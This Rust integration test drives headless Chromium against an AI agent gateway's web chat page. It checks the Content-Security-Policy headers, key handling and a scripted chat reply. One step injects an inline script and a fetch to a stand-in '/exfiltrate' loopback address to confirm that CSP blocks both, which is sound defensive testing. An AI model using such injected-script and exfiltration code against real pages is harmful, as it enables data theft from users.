//! The web chat page in a real headless Chromium (driven over WebDriver by chromedriver): it
//! loads under its CSP with no violation, an inline script injected into it does not run, the
//! user pastes a key, sends a message and sees the agent's reply.
//!
//! Needs Debian's `chromium` and `chromium-driver` (`scripts/test.sh` installs them). Without
//! them the test is skipped with a loud message, unless `CI` is set: then it fails. On failure a
//! screenshot is saved to `$CARGO_TARGET_TMPDIR/webchat-failure.png`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test helpers: a failure is a test failure"
)]

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use argon2::PasswordHasher as _;
use fantoccini::{Client, ClientBuilder, Locator};
use rampart_testkit::{FakeLlm, FakeReply};
use serde_json::json;

mod common;

use common::*;

const REPLY: &str = "Hello from the scripted model.";
const USER_KEY: &str = "webchat-user-key-0123456789";

fn find(candidates: &[&str]) -> Option<PathBuf> {
    candidates.iter().map(PathBuf::from).find(|p| p.exists())
}

/// chromedriver on a free loopback port, killed on drop.
struct Driver {
    child: Child,
    port: u16,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_driver(chromedriver: &Path) -> Driver {
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    // Held by `Driver` from the start, so every path (a panic included) kills and reaps it.
    let driver = Driver {
        child: Command::new(chromedriver)
            .arg(format!("--port={port}"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
        port,
    };
    for _ in 0..200 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            return driver;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("chromedriver did not listen on port {port} within 10 s");
}

async fn browser(driver: &Driver, chromium: &Path, profile: &Path) -> Client {
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".to_owned(),
        json!({
            "binary": chromium,
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--window-size=1000,800",
                format!("--user-data-dir={}", profile.display()),
            ],
        }),
    );
    let connector = hyper_util::client::legacy::connect::HttpConnector::new();
    ClientBuilder::new(connector)
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{}", driver.port))
        .await
        .expect("a chromium session through chromedriver")
}

fn cheap_hash(key: &str) -> String {
    let params = argon2::Params::new(8, 1, 1, None).unwrap();
    let a = argon2::Argon2::new(argon2::Algorithm::Argon2id, argon2::Version::V0x13, params);
    let salt = argon2::password_hash::SaltString::encode_b64(b"webchat-salt-16b").unwrap();
    a.hash_password(key.as_bytes(), &salt).unwrap().to_string()
}

/// Polls `f` until it yields `Some`, for at most `secs` seconds.
async fn eventually<T>(
    secs: u64,
    what: &str,
    mut f: impl AsyncFnMut() -> Result<Option<T>, String>,
) -> Result<T, String> {
    for _ in 0..secs * 10 {
        if let Some(v) = f().await? {
            return Ok(v);
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Err(format!("timed out after {secs} s waiting for {what}"))
}

async fn violations(c: &Client) -> Result<u64, String> {
    let v = c
        .execute("return document.body.dataset.cspViolations;", vec![])
        .await
        .map_err(|e| e.to_string())?;
    v.as_str()
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("no violation counter on the page: {v}"))
}

async fn text_of(c: &Client, css: &str) -> Result<String, String> {
    c.find(Locator::Css(css))
        .await
        .map_err(|e| format!("{css}: {e}"))?
        .text()
        .await
        .map_err(|e| e.to_string())
}

/// The scenario; an `Err` is a failure (the caller takes the screenshot).
async fn scenario(c: &Client, base: &str) -> Result<(), String> {
    let err = |e: fantoccini::error::CmdError| e.to_string();
    c.goto(&format!("{base}/chat")).await.map_err(err)?;
    let title = c.title().await.map_err(err)?;
    if title != "Rampart chat" {
        return Err(format!("title {title:?}: the script or page did not load"));
    }
    // The script ran (it set the counter) and nothing on the page broke the policy.
    if violations(c).await? != 0 {
        return Err("the page itself violates its CSP".to_owned());
    }

    // Attack: markup injected into the page cannot run script or reach another origin.
    let ran = c
        .execute(
            "const s = document.createElement('script');
             s.textContent = 'window.__injected = true';
             document.body.appendChild(s);
             fetch('http://127.0.0.2:9/exfiltrate').catch(() => {});
             return window.__injected === true;",
            vec![],
        )
        .await
        .map_err(err)?;
    if ran != json!(false) {
        return Err("an injected inline script ran: the CSP is not enforced".to_owned());
    }
    eventually(10, "two CSP violation reports", async || {
        Ok((violations(c).await? >= 2).then_some(()))
    })
    .await?;

    // Paste the key, connect, send a message, see the reply.
    c.find(Locator::Id("key"))
        .await
        .map_err(err)?
        .send_keys(USER_KEY)
        .await
        .map_err(err)?;
    c.find(Locator::Id("connect"))
        .await
        .map_err(err)?
        .click()
        .await
        .map_err(err)?;
    eventually(20, "the socket to open", async || {
        let enabled = c
            .find(Locator::Id("message"))
            .await
            .map_err(err)?
            .is_enabled()
            .await
            .map_err(err)?;
        Ok(enabled.then_some(()))
    })
    .await?;
    let status = text_of(c, "#status").await?;
    if !status.contains("Connected as uma (user)") {
        return Err(format!("status {status:?}"));
    }
    if !c
        .find(Locator::Id("key"))
        .await
        .map_err(err)?
        .prop("value")
        .await
        .map_err(err)?
        .unwrap_or_default()
        .is_empty()
    {
        return Err("the key stayed in the form".to_owned());
    }
    c.find(Locator::Id("message"))
        .await
        .map_err(err)?
        .send_keys("hello, agent")
        .await
        .map_err(err)?;
    c.find(Locator::Id("send"))
        .await
        .map_err(err)?
        .click()
        .await
        .map_err(err)?;
    let reply = eventually(30, "the agent's reply", async || {
        match c
            .find(Locator::Css("#log li.agent[data-done=\"true\"]"))
            .await
        {
            Ok(e) => Ok(Some(e.text().await.map_err(err)?)),
            Err(_) => Ok(None),
        }
    })
    .await?;
    if reply != REPLY {
        return Err(format!("reply {reply:?}"));
    }
    let mine = text_of(c, "#log li.you").await?;
    if mine != "hello, agent" {
        return Err(format!("own message shown as {mine:?}"));
    }
    if violations(c).await? != 2 {
        return Err("chatting caused a CSP violation".to_owned());
    }
    Ok(())
}

#[tokio::test]
async fn the_web_chat_page_works_in_headless_chromium_under_its_csp() {
    let chromium = find(&["/usr/bin/chromium", "/usr/bin/chromium-browser"]);
    let chromedriver = find(&["/usr/bin/chromedriver", "/usr/lib/chromium/chromedriver"]);
    let (Some(chromium), Some(chromedriver)) = (chromium, chromedriver) else {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI is set but chromium/chromedriver are missing: scripts/test.sh installs them"
        );
        eprintln!(
            "\n!!!!!!!! SKIPPED: the web chat browser test needs `chromium` and `chromium-driver` \
             (apt-get install chromium chromium-driver; scripts/test.sh does it) !!!!!!!!\n"
        );
        return;
    };

    let llm = FakeLlm::start(vec![FakeReply::text(REPLY)]).await;
    let home = make_home(
        &llm.base_url(),
        &format!(
            "[[users]]\nname = \"uma\"\nrole = \"user\"\napi_key_hash = \"{}\"\n",
            cheap_hash(USER_KEY)
        ),
    );
    let gw = start(home.path());
    let base = format!("http://{}", gw.addr);

    // The page and its assets carry the strict policy, and no secret is in them.
    let http = http();
    for path in ["/chat", "/chat/app.js", "/chat/app.css"] {
        let resp = http.get(format!("{base}{path}")).send().await.unwrap();
        assert_eq!(resp.status(), 200, "{path}");
        let csp = resp.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .to_owned();
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("unsafe"),
            "{csp}"
        );
        let body = resp.text().await.unwrap();
        assert!(!body.contains(&home.key) && !body.contains(USER_KEY));
    }

    let driver = start_driver(&chromedriver);
    let profile = tempfile::tempdir().unwrap();
    let client = browser(&driver, &chromium, profile.path()).await;
    let outcome = scenario(&client, &base).await;
    if let Err(why) = &outcome {
        let shot = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("webchat-failure.png");
        match client.screenshot().await {
            Ok(png) => {
                std::fs::write(&shot, png).unwrap();
                eprintln!("screenshot of the failure: {}", shot.display());
            }
            Err(e) => eprintln!("could not take a screenshot: {e}"),
        }
        eprintln!("web chat failed: {why}");
    }
    let _ = client.close().await;
    outcome.unwrap();
    assert_eq!(llm.requests().len(), 1, "one message reached the model");
    gw.stop();
}
